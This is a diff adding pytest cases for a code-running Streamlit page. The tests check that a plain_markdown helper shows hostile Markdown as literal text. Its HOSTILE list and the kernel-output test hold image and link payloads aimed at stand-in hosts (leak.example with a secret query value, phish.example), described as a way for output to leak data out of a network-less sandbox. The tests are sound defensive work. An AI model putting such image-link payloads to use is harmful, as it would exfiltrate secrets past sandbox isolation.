@@ -183,3 +183,46 @@ def test_the_run_started_by_interrupt_waits_for_the_stopped_runs_observation(cod
     assert stopped.asked.is_set(), "the new run did not wait for the stopped one"
     assert any("partial-2d8" in e.value for e in code_page.error)  # the stopped run's observation is on the page
     assert any("Interrupted by the user" in w.value for w in code_page.warning)
+
+
+HOSTILE = [
+    "![x](http:/leak.example/p.png?secret=42) and [click](https://phish.example)",
+    "<img src=https://leak.example/q.png> <https://leak.example/auto>",
+    "print(9**9**9) raised __KeyboardInterrupt__ :red[alarm] :material/warning: $x^2$ `code` ~~gone~~",
+    "# not a title\n| a | b |\n- not a list item\n1. nor this\n    nor a code block\n===",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_plain_markdown_shows_hostile_text_as_it_is(text):
+    """Checked with a CommonMark parser (markdown-it): no link, image, HTML, emphasis or code comes out,
+    and the visible text is exactly the input."""
+    import html
+    import re
+
+    from markdown_it import MarkdownIt
+
+    from pages._shared import plain_markdown
+
+    rendered = MarkdownIt("commonmark", {"html": True}).enable("strikethrough").enable("table").render(plain_markdown(text))
+    assert not re.search(r"<(a|img|em|strong|code|s|del|h\d|table|li|ul)\b", rendered), rendered
+    shown = html.unescape(re.sub(r"<br ?/?>\n?", "\n", re.sub(r"</?p>\n?", "", rendered)))
+    assert shown.replace("\u00a0", " ").strip() == text.strip()
+
+
+def test_kernel_output_and_errors_reach_the_page_as_plain_text(code_page):
+    """The observation's label (its first output line) and an error's body are Markdown in Streamlit: the kernel's
+    text must not become an image the browser fetches (a way out of the network-less sandbox) or lose its `**`."""
+    from pages._shared import plain_markdown
+
+    leak = "![x](http:/leak.example/p.png?secret=42)"
+    _pending(code_page, f"print({leak!r})")
+    code_page.run()
+    assert not code_page.exception, code_page.exception
+    labels = [e.proto.label for e in code_page.get("status")]
+    assert any(plain_markdown(leak) in label for label in labels), labels
+    assert not any(leak in label for label in labels), labels
+    _pending(code_page, "raise ValueError('bad ![y](http:/leak.example/e.png) 9**9**9')")
+    code_page.run()
+    errors = [e.value for e in code_page.main.error if "ValueError" in e.value]
+    assert errors and all(plain_markdown("![y](http:/leak.example/e.png) 9**9**9") in body for body in errors), errors
